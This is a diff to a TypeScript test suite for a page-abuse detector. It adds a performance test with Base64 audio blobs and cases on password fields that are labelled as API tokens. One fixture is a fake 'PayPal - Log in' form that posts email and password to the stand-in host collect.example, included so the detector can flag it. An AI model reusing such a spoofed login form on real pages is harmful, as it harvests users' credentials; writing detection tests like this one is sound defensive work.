@@ -1,5 +1,6 @@
 /** PIPELINE 3, "must pass": whole pages that honest people make, and that a rule written too wide would hold. */
 import { describe, expect, test } from "bun:test";
+import { cpuOf } from "../kit/cpu.ts";
 import { judge, judgePage } from "../kit/abuse-site.ts";
 
 const PASSWORD = `<label>Password <input type="password" name="password"></label>`;
@@ -80,6 +81,19 @@ describe("must pass", () => {
   ])("%s", (_, html) => expect(judgePage(html)).toBe("pass"));
 });
 
+test("must pass: an app that carries its sounds and sprites as Base64, however many", () => {
+  let state = 1;
+  const noise = (length: number): string =>
+    Buffer.from(
+      Uint8Array.from({ length }, () => (state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0) >>> 16),
+    ).toString("base64");
+  const sounds = Array.from({ length: 200 }, () => `"${noise(15_000)}"`);
+  const play = `sounds.map((sound) => Uint8Array.from(atob(sound), (c) => c.charCodeAt(0)))`;
+  const page = `<title>Drums</title><script>const sounds = [${sounds}]; ${play}</script>`;
+  const took = cpuOf(() => expect(judgePage(page)).toBe("pass"));
+  expect(took).toBeLessThan(2000); // all that a deploy has
+});
+
 describe("a field for a program's key is no password field", () => {
   const page = (field: string, code = `fetch("https://api.openai.com/v1/models")`): string =>
     `<title>OpenAI playground</title><label for="k">Key</label>${field}<script>${code}</script>`;
@@ -92,6 +106,21 @@ describe("a field for a program's key is no password field", () => {
     `<input type="password" name="token">`,
     `<label>Client secret <input type="password"></label>`,
   ])("%s", (field) => expect(judgePage(page(field))).toBe("pass"));
+
+  const signIn = (field: string): string =>
+    `<title>PayPal - Log in</title><h1>Log in</h1><form action="https://collect.example/"><input type="email" name="e"><p>Password</p>${field}<button>Log in</button></form>`;
+  test.each([
+    `<input type="password" name="token">`,
+    `<input type="password" id="apikey">`,
+    `<input type="password" aria-label="Access token">`,
+    `<input type="password" name="api_token" autocomplete="new-password">`,
+  ])("… but is one where people read that it is: %s", (field) =>
+    expect(judgePage(signIn(field))).toBe(judgePage(signIn(`<input type="password" name="p">`))),
+  );
+  test("… or where browsers fill one in", () => {
+    const filled = signIn(`<input type="password" name="token" autocomplete="current-password">`);
+    expect(judgePage(filled.replace("<p>Password</p>", ""))).toBe("abuse_rejected");
+  });
 
   test("a bot's token, tried", () => {
     const field = `<input type="password" placeholder="Bot token">`;
